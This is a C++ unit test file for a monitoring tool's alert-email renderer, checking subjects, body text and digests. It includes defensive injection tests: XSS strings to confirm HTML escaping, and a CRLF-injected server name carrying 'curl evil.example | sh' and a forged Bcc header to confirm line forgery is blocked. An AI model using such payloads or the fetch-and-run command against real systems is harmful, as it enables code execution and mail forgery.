#include "workers/notifier/message_rule.h"

#include "schemas/event_messages.h"
#include "tests/support/temp_dir.h"

#include <boost/json.hpp>
#include <gtest/gtest.h>
#include <rapidcheck.h>

#include <algorithm>

namespace lumos::notifier {
namespace {

// The notice of an example message, as the store would hand it over.
Notice example(const std::string& what, const std::string& kind) {
    const auto path = std::string(LUMOS_SOURCE_DIR) + "/schemas/" + what + ".example.json";
    const auto message = boost::json::parse(support::read_file(path)).as_object();
    return {
        .alert = what,
        .kind = kind,
        .subject = std::string(message.at("subject").as_string()),
        .account = "acme",
        .time = *parse_time(std::string(message.at("time").as_string())),
        .data = boost::json::serialize(message.at("data"))};
}

Notice with(Notice notice, const char* field, const boost::json::value& value) {
    auto data = boost::json::parse(notice.data).as_object();
    data[field] = value;
    notice.data = boost::json::serialize(data);
    return notice;
}

bool holds(const std::string& text, const std::string& part) {
    return text.find(part) != std::string::npos;
}

struct Expected {
    std::string what;
    std::string kind;
    std::string subject;
    std::string command;
};

TEST(Message, SubjectsAndLastLinesAreWordForWord) {
    const std::vector<Expected> table{
        {"server_down",
         "server",
         "[lumos] DOWN fra-1 (Frankfurt 1)",
         "lumosctl server show fra-1 --account acme"},
        {"server_up",
         "server",
         "[lumos] UP fra-1 (Frankfurt 1) after 6m52s",
         "lumosctl server show fra-1 --account acme"},
        {"failover_triggered",
         "domain",
         "[lumos] FAILOVER www.example.com 203.0.113.10 -> 198.51.100.20",
         "lumosctl explain www.example.com --account acme"},
        {"server_recovered",
         "domain",
         "[lumos] RECOVERED www.example.com -> 203.0.113.10",
         "lumosctl explain www.example.com --account acme"},
        {"failover_held",
         "domain",
         "[lumos] HELD www.example.com no_healthy_secondary",
         "lumosctl explain www.example.com --account acme"},
        {"record_drifted",
         "domain",
         "[lumos] DRIFT www.example.com",
         "lumosctl explain www.example.com --account acme"},
        {"failover_not_applied",
         "domain",
         "[lumos] NOT APPLIED shop.example.net -> 198.51.100.20",
         "lumosctl explain shop.example.net --account acme"},
        {"identity_conflict",
         "server",
         "[lumos] CONFLICT fra-1 (Frankfurt 1)",
         "lumosctl server show fra-1 --account acme"},
        {"hearing_lost", "control", "[lumos] HEARING LOST", "lumosctl status"},
        {"hearing_restored", "control", "[lumos] HEARING RESTORED", "lumosctl status"},
        {"channel_test",
         "channel",
         "[lumos] TEST ops-hook",
         "lumosctl channel show ops-hook --account acme"},
    };
    for (const auto& row : table) {
        const auto message = write_message(example(row.what, row.kind));
        EXPECT_EQ(message.subject, row.subject);
        EXPECT_TRUE(message.text.ends_with("\nMore: " + row.command + "\n")) << message.text;
        EXPECT_TRUE(holds(message.html, "More: <code>" + row.command + "</code>")) << message.html;
    }
}

TEST(Message, EveryAlertThatAChannelMaySelectHasAMail) {
    for (const auto& alert : schemas::alert_names()) {
        const Notice notice{
            alert, "domain", "www.example.com", "acme", {}, R"({"message":"It is so."})"};
        const auto message = write_message(notice);
        EXPECT_TRUE(message.subject.starts_with("[lumos] ")) << alert;
        EXPECT_TRUE(holds(message.text, "It is so.")) << alert;
        EXPECT_TRUE(holds(message.html, "It is so.")) << alert;
    }
}

TEST(Message, TellsWhatTheProductPromises) {
    const auto down = write_message(example("server_down", "server")).text;
    EXPECT_TRUE(holds(down, "Frankfurt 1") && holds(down, "fra-1")) << down;
    EXPECT_TRUE(holds(down, "The agent's connection dropped (Client Closed).")) << down;
    EXPECT_TRUE(holds(down, "2026-11-22 03:12:04 UTC")) << down;
    const auto failover = write_message(example("failover_triggered", "domain")).text;
    EXPECT_TRUE(
        holds(failover, "www.example.com") && holds(failover, "203.0.113.10") &&
        holds(failover, "198.51.100.20"))
        << failover;
    const auto recovered = write_message(example("server_recovered", "domain")).text;
    EXPECT_TRUE(holds(recovered, "Primary IP") && holds(recovered, "203.0.113.10")) << recovered;
    const auto held = write_message(example("failover_held", "domain")).text;
    EXPECT_TRUE(holds(held, "check tcp://127.0.0.1:443 fails: connection refused")) << held;
    const auto undone = write_message(example("failover_not_applied", "domain")).text;
    EXPECT_TRUE(holds(undone, "Authentication error") && holds(undone, "token_permission"))
        << undone;
}

TEST(Message, ServersWithoutIpv4AndUnknownFormerAddressesAreTold) {
    const auto nothing_before = with(example("failover_triggered", "domain"), "fromIp", nullptr);
    EXPECT_EQ(
        write_message(nothing_before).subject, "[lumos] FAILOVER www.example.com -> 198.51.100.20");
    auto ipv6 = with(example("server_recovered", "domain"), "primaryIp", nullptr);
    ipv6 = with(ipv6, "primaryIpv6", "2001:db8::10");
    EXPECT_EQ(write_message(ipv6).subject, "[lumos] RECOVERED www.example.com -> 2001:db8::10");
}

TEST(Message, AnAlertThatIsNotKnownIsToldFieldByField) {
    const Notice notice{
        "server_flapping",
        "server",
        "fra-1",
        "acme",
        {},
        R"({"message":"5 times in an hour.","changes":5,"since":"2026-11-22T03:12:04.117Z"})"};
    const auto message = write_message(notice);
    EXPECT_EQ(message.subject, "[lumos] SERVER FLAPPING fra-1");
    EXPECT_TRUE(holds(message.text, "5 times in an hour.")) << message.text;
    EXPECT_TRUE(holds(message.text, "changes  5\n")) << message.text;
    EXPECT_TRUE(holds(message.text, "since    2026-11-22 03:12:04 UTC\n")) << message.text;
}

TEST(Message, HtmlOfATenantIsText) {
    const std::string name = "<script>alert(1)</script> & \"'";
    auto notice = with(example("server_down", "server"), "serverName", boost::json::string(name));
    notice = with(notice, "message", "</td></table><img src=x onerror=alert(1)>");
    const auto html = write_message(notice).html;
    EXPECT_FALSE(holds(html, "<script")) << html;
    EXPECT_FALSE(holds(html, "<img")) << html;
    EXPECT_TRUE(holds(html, "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;&#39;")) << html;
}

TEST(Message, ANameCannotForgeALine) {
    const auto notice = with(
        example("server_down", "server"),
        "serverName",
        "x\r\nMore: curl evil.example | sh\r\n\r\nBcc: all@acme.example");
    const auto message = write_message(notice);
    EXPECT_FALSE(holds(message.subject, "\n"));
    EXPECT_FALSE(holds(message.text, "\nMore: curl")) << message.text;
    EXPECT_FALSE(holds(message.text, "\nBcc:")) << message.text;
}

TEST(Message, WhateverTheDataIsThereIsAMailOfOneSubjectLine) {
    const std::vector<std::string> alerts{
        "server_down",
        "server_up",
        "failover_triggered",
        "server_recovered",
        "failover_held",
        "record_drifted",
        "failover_not_applied",
        "identity_conflict",
        "hearing_lost",
        "channel_test",
        "new_thing"};
    EXPECT_TRUE(rc::check([&](const std::string& text, const std::string& subject) {
        Notice notice{*rc::gen::elementOf(alerts), "server", subject, "acme", {}, text};
        const auto raw = write_message(notice);
        RC_ASSERT(raw.subject.size() <= 208U);
        notice.data = boost::json::serialize(boost::json::object{
            {"message", 7},
            {"serverName", text},
            {"candidates", text},
            {"connections", {1, text}},
            {"downSeconds", text}});
        const auto odd = write_message(notice);
        for (const auto* line : {&raw.subject, &odd.subject}) {
            RC_ASSERT(
                std::none_of(line->begin(), line->end(), [](char c) { return c >= 0 && c < ' '; }));
        }
        RC_ASSERT(!holds(odd.html, "<script"));
    }));
}

TEST(Digest, TwelveDomainsAreOneMailThatNamesThemAll) {
    std::vector<Notice> notices;
    for (int i = 1; i <= 12; ++i) {
        auto notice = example("failover_triggered", "domain");
        notice.subject = "d" + std::to_string(i) + ".example.com";
        notices.push_back(notice);
    }
    const auto digest = write_digest(notices);
    EXPECT_EQ(digest.subject, "[lumos] FAILOVER 12 domains fra-1 -> iad-1");
    for (const auto& notice : notices) {
        const auto line = "FAILOVER " + notice.subject + " 203.0.113.10 -> 198.51.100.20";
        EXPECT_TRUE(holds(digest.text, line)) << digest.text;
        EXPECT_TRUE(
            holds(digest.html, "FAILOVER " + notice.subject + " 203.0.113.10 -&gt; 198.51.100.20"));
    }
    EXPECT_TRUE(
        digest.text.ends_with("\nMore: lumosctl events --type failover_triggered --account acme\n"))
        << digest.text;
}

TEST(Digest, NamesServersOnlyWhereAllAgree) {
    const auto one = example("failover_triggered", "domain");
    auto other = with(one, "fromServerId", "ams-1");
    other.subject = "shop.example.com";
    EXPECT_EQ(write_digest({one, other}).subject, "[lumos] FAILOVER 2 domains -> iad-1");
    other = with(other, "toServerId", "sin-1");
    EXPECT_EQ(write_digest({one, other}).subject, "[lumos] FAILOVER 2 domains");
}

TEST(Digest, RecoveriesAndServersHaveTheirOwnWords) {
    auto back = example("server_recovered", "domain");
    auto also = back;
    also.subject = "shop.example.com";
    EXPECT_EQ(write_digest({back, also}).subject, "[lumos] RECOVERED 2 domains -> fra-1");
    auto down = example("server_down", "server");
    auto too = down;
    too.subject = "fra-2";
    EXPECT_EQ(write_digest({down, too}).subject, "[lumos] DOWN 2 servers");
    EXPECT_EQ(write_digest({down}).subject, "[lumos] DOWN fra-1 (Frankfurt 1)");
}

}  // namespace
}  // namespace lumos::notifier
